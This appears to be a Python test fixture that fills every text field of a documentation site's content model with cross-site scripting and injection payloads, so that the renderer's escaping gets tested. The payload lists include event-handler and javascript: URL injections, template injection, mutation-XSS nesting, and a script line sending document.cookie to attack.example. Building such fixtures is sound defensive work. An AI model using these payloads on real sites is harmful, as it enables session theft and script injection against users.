"""A book that attacks its readers: something that would act stands in every text of every field of every kind.

The fields are walked as the content model says them, so that a new kind or field is attacked as soon as it is there.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from onebook.model.hints import record_of
from onebook.model.kind import kinds
from onebook.model.leaves import Choice, Leaf
from onebook.model.page_head import PageHead
from onebook.model.shape import Either, FreeMapping, Many, Record, Reference, Type

WORD = "zork"
"""Begins every attacking text, so that the search and the lexicon find it everywhere."""
AVOIDED = "zorkless"
"""A word that the book would rather not use."""
ELSEWHERE = "https://attack.example"

ATTACKS = (
    '"><img data-attack src=x onerror=alert(1)><svg data-attack onload=alert(2)></svg>',
    "' autofocus onfocus=alert(3) data-attack x='</title></script></style></textarea><script>alert(4)</script>",
    f"--></noscript><iframe data-attack src={ELSEWHERE}/f></iframe><link rel=stylesheet href={ELSEWHERE}/s.css>",
    "&lt;img data-attack src=x onerror=alert(5)&gt; &#60;script&#62;alert(6)&#60;/script&#62; {{7*7}} ${alert(7)} {% raw %}",
    "\\u003cimg data-attack src=x onerror=alert(8)\\u003e ');alert(9)//` </script><!--<script>alert(10)\u2028",
    f"[[goal:goal-0|<b data-attack onclick=alert(11)>]] ![x]({ELSEWHERE}/i.png) [y](javascript:alert(12)) `<img data-attack>`",
)
"""What stands in texts that are no Markdown, and in Markdown too; short enough for one sentence."""

MARKDOWN = (
    '<img data-attack src="x" onerror="alert(20)">',
    "<details data-attack open ontoggle=alert(21)><summary>x</summary></details>",
    f'<div style="background:url({ELSEWHERE}/b.png)" data-attack>x</div>',
    f"<script>fetch('{ELSEWHERE}/' + document.cookie)</script>",
    '<a href="java&#10;script:alert(22)" data-attack>x</a> <a href="data:text/html,<script>alert(23)</script>">y</a>',
    f'<form action="{ELSEWHERE}"><button data-attack formaction="javascript:alert(24)">z</button></form>',
    f"![i]({ELSEWHERE}/i.png) <img src={ELSEWHERE}/j.png> <img srcset='{ELSEWHERE}/k.png 2x'>",
    f'<svg data-attack><style>@import "{ELSEWHERE}/s.css";</style><script>alert(25)</script></svg>',
    "<math><mtext><table><mglyph><style><img data-attack src=x onerror=alert(26)></style></mglyph></table></mtext></math>",
    "## <img data-attack src=x onerror=alert(27)> and `<img data-attack src=x onerror=alert(28)>`",
    '[x](javascript:alert(29) "\\" onmouseover=alert(30) data-attack=\\"") <javascript:alert(31)> [y]: javascript:alert(32)',
    "| <img data-attack src=x onerror=alert(33)> | b |\n|---|---|\n| `<script data-attack>` | [y] |",
    "Term <b data-attack onclick=alert(34)>\n: Said[^1]\n\n[^1]: <img data-attack src=x onerror=alert(35)>",
    '```"><img data-attack src=x onerror=alert(36)>\n</code></pre><script>alert(37)</script>\n```',
    f'<div class="md-overlay mermaid" id="__config" data-attack>{{"base":"{ELSEWHERE}"}}</div>',
    '<pre class="mermaid"><code>graph LR</code></pre>',
    '<!--<img data-attack src="--><img data-attack src=x onerror=alert(38)//">',
)

ADDRESSES = (
    f'{ELSEWHERE}/?a="onmouseover="alert(40)&b=<img data-attack src=x onerror=alert(41)>',
    "mailto:a@attack.example?subject='><script>alert(42)</script>",
    "ask.html?q=\"><img data-attack src=x onerror=alert(43)>#'><svg onload=alert(44)>",
)

_LEAVES = {
    "true or false": "true",
    "month and day": "01-01",
    "a date": "2027-01-20",
    "a period": "2027",
    "a duration": "3 working days",
    "a time limit": "2 hours",
    "a whole number": "1",
    "how often it repeats": "every week",
    "a number": "7",
}
"""What can stand where no text can."""

_FIXED: dict[tuple[str, str], Any] = {
    ("organization", "timezone"): "UTC",
    ("organization", "country"): "DE",
    ("organization", "language"): "en",
    ("organization", "closed"): [{"start": "2027-12-24", "end": "2027-12-26"}],
    ("page", "icon"): "material/van-utility",
    ("page", "template"): "main.html",
    ("page", "search"): None,
    ("raci", "matrix.columns"): ["position:position-1"],
    ("raci", "matrix.rows.cells"): "A",
}
"""Fields of texts that must have a form of their own."""


@dataclass
class Attackers:
    """Writes the book, and counts what it put where."""

    variants: int = 3
    fields: set[str] = field(default_factory=set)
    texts: int = 0
    _turn: int = 0

    def files(self) -> dict[str, str]:
        """The content files of the book, by path."""
        found = {}
        for kind in kinds().values():
            number = 1 if kind.folder.endswith(".yml") else self.variants
            for variant in range(number):
                path = kind.path if number == 1 else f"{kind.path}/{kind.name}-{variant}.yml"
                entity = self._record(kind.record, kind.name, variant)
                if (kind.name, variant) == ("term", 0):
                    # plain words beside the attacks, so that tips and "we say" come up
                    entity["synonyms"] = [WORD, *entity["synonyms"]]
                    entity["avoid"] = [{**entity["avoid"][0], "phrase": AVOIDED}, *entity["avoid"]]
                found[path] = json.dumps(entity, ensure_ascii=False)
        return found

    def head(self) -> str:
        """The fields of an ordinary page."""
        return json.dumps(self._record(record_of(PageHead), "page", 0), ensure_ascii=False)

    def _record(self, record: Record, owner: str, variant: int) -> dict[str, Any]:
        return {
            item.name: value
            for item in record.fields
            if item.name not in ("id", "status", "stage")
            and (value := self._value(item.type, owner, item.name, variant)) is not None
        }

    def _value(self, type_: Type, owner: str, path: str, variant: int) -> Any:
        if (owner, path) in _FIXED:
            return _FIXED[owner, path]
        if isinstance(type_, Leaf):
            return self._leaf(type_, owner, path, variant)
        if isinstance(type_, Choice):
            return type_.words[variant % len(type_.words)]
        if isinstance(type_, Many):
            value = self._value(type_.item, owner, path, variant)
            return None if value is None else [value]
        if isinstance(type_, Record):
            return {
                item.name: value
                for item in type_.fields
                if item.name != "id"
                and (value := self._value(item.type, owner, f"{path}.{item.name}", variant)) is not None
            }
        if isinstance(type_, Either):
            return self._value(type_.options[-1], owner, path, variant)
        assert not isinstance(type_, FreeMapping), "a kind has a table now: attack its names and values too"
        return self._reference(type_, owner, variant)

    def _leaf(self, leaf: Leaf, owner: str, path: str, variant: int) -> str:
        if path == "aliases":
            return f"was-{owner}-{variant}"
        if not leaf.is_text and not leaf.is_address:
            return _LEAVES[leaf.name]
        if "number" in leaf.name and variant == 1:
            return str(len(self.fields) % 9 + 1)  # so that charts and bars are drawn too
        self.fields.add(f"{owner}.{path}")
        self.texts += 1
        self._turn += 1
        if leaf.is_address:
            return ADDRESSES[self._turn % len(ADDRESSES)]
        if leaf.is_markdown:
            return "\n\n".join((f"{WORD} {owner}", *ATTACKS, *MARKDOWN))
        # by number, since the lexicon and the calendar want no two the same
        return f"{WORD} {owner}{self._turn} {ATTACKS[self._turn % len(ATTACKS)]}"

    def _reference(self, type_: Reference, owner: str, variant: int) -> str | None:
        wanted = type_.kinds or ("goal",)
        name = wanted[variant % len(wanted)]
        # none refers to itself or in a circle: the one before, and the first to nobody
        number = variant - 1 if name == owner else (variant + len(self.fields)) % self.variants
        return f"{name}:{name}-{number}" if number >= 0 else None


def payloads() -> Iterator[str]:
    """Every attack that the book makes."""
    yield from (*ATTACKS, *MARKDOWN, *ADDRESSES)
